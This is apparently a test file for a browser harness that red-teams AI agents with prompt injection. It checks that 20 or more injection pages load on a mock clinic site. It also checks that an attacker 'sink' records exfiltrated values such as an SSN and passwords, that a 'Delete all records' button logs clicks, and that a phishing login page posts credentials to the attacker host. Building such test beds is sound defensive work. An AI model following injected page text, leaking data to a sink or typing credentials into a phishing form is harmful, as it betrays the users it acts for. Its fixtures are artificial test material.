// The prompt-injection pages in real Chromium: each loads cleanly on the victim's site with
// its marker and the attacker's origin filled in, the sink records what reaches it on either
// host, the pages' buttons and forms record events, and a reset forgets both.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { INJECT_API, INJECT_SINK, INJECTION_ATTACKS } from './inject-attacks';
import type { PageEvent, SinkHit } from './inject';
import { DEMO_API, DEMO_PAGES } from './pages';
import { startDemoSites, type DemoSites } from './server';
import { openBrowser, type BrowserFixture } from './test/browser';

let sites: DemoSites;
let fixture: BrowserFixture;
let attacker: string;

beforeAll(async () => {
  [sites, fixture] = await Promise.all([startDemoSites(), openBrowser()]);
  attacker = `http://localhost:${sites.port}`;
});
afterAll(async () => {
  await fixture?.browser.close();
  await sites?.close();
});

const json = async <T>(path: string): Promise<T> =>
  (await (await fetch(`${sites.url}${path}`)).json()) as T;

describe('the attack pages', () => {
  it('number at least 20, each with its own marker and page', () => {
    expect(INJECTION_ATTACKS.length).toBeGreaterThanOrEqual(20);
    expect(new Set(INJECTION_ATTACKS.map((a) => a.marker)).size).toBe(INJECTION_ATTACKS.length);
    expect(new Set(INJECTION_ATTACKS.map((a) => a.id)).size).toBe(INJECTION_ATTACKS.length);
  });

  it.each(INJECTION_ATTACKS.map((a) => [a.id, a] as const))(
    '%s loads without errors, with its marker and the attacker’s origin filled in',
    async (_id, attack) => {
      const { page } = fixture;
      fixture.problems.length = 0;
      await page.goto(`${sites.url}${attack.page}`);
      await fixture.settle();
      const html = await page.content();
      expect(html).not.toContain('{{ATTACKER}}');
      if (attack.id !== 'cross-site') expect(html).toContain(attack.marker);
      expect(fixture.problems).toEqual([]);
    },
  );
});

describe('the sink and the events', () => {
  it('records every request on either host, and a reset forgets them', async () => {
    await fetch(`${sites.url}/__reset`, { method: 'POST' });
    await fetch(`${attacker}${INJECT_SINK}?v=01&ssn=123`);
    await fetch(`${sites.url}${INJECT_SINK}`, { method: 'POST', body: 'password=x' });
    const { hits } = await json<{ hits: SinkHit[] }>(INJECT_API.hits);
    expect(hits.map((h) => [h.host, h.method, h.query, h.body])).toEqual([
      [`localhost:${sites.port}`, 'GET', '?v=01&ssn=123', ''],
      [`127.0.0.1:${sites.port}`, 'POST', '', 'password=x'],
    ]);
    await fetch(`${sites.url}/__reset`, { method: 'POST' });
    expect((await json<{ hits: SinkHit[] }>(INJECT_API.hits)).hits).toEqual([]);
  });

  it('a button and a form of the pages record what they did', async () => {
    const { page } = fixture;
    await fetch(`${sites.url}/__reset`, { method: 'POST' });
    await page.goto(`${sites.url}/inject/alt-text.html`);
    await page.getByRole('button', { name: 'Delete all records' }).click();
    await page.goto(`${sites.url}${DEMO_PAGES.injectLogin}`);
    await page.getByLabel('Username').fill('maria.lopez');
    await page.getByLabel('Password').fill('S3cr3t-Clinic-9431');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await expect
      .poll(async () => (await json<{ events: PageEvent[] }>(INJECT_API.events)).events.length)
      .toBe(2);
    const { events } = await json<{ events: PageEvent[] }>(INJECT_API.events);
    expect(events.map((e) => [e.kind, e.detail])).toEqual([
      ['delete', 'all records'],
      ['login', JSON.stringify({ user: 'maria.lopez', password: 'S3cr3t-Clinic-9431' })],
    ]);
  });

  it('the phishing page, on the attacker’s host, posts to the sink', async () => {
    const { page } = fixture;
    await fetch(`${sites.url}/__reset`, { method: 'POST' });
    await page.goto(`${attacker}/inject/phish-login.html`);
    await page.getByLabel('Password').fill('typed');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.waitForURL(`${attacker}${INJECT_SINK}`);
    const { hits } = await json<{ hits: SinkHit[] }>(INJECT_API.hits);
    expect(hits).toEqual([
      expect.objectContaining({
        host: `localhost:${sites.port}`,
        body: 'user=maria.lopez&password=typed',
      }),
    ]);
  });
});

describe('messages', () => {
  it('sends a message to a patient and lists it', async () => {
    const { page } = fixture;
    await fetch(`${sites.url}/__reset`, { method: 'POST' });
    await page.goto(`${sites.url}${DEMO_PAGES.messages}`);
    await page.getByLabel('To').selectOption('Maria Lopez');
    await page.getByLabel('Message', { exact: true }).fill('Your appointment is tomorrow at 9.');
    await page.getByRole('button', { name: 'Send message' }).click();
    await expect
      .poll(() => page.getByRole('status').textContent())
      .toBe('Message sent to Maria Lopez.');
    expect(await json(DEMO_API.messages)).toEqual({
      messages: [{ to: 'Maria Lopez', body: 'Your appointment is tomorrow at 9.', sequence: 1 }],
    });
    const bad = await fetch(`${sites.url}${DEMO_API.messages}`, {
      method: 'POST',
      body: JSON.stringify({ to: 'Nobody', body: 'x' }),
    });
    expect(bad.status).toBe(400);
  });
});
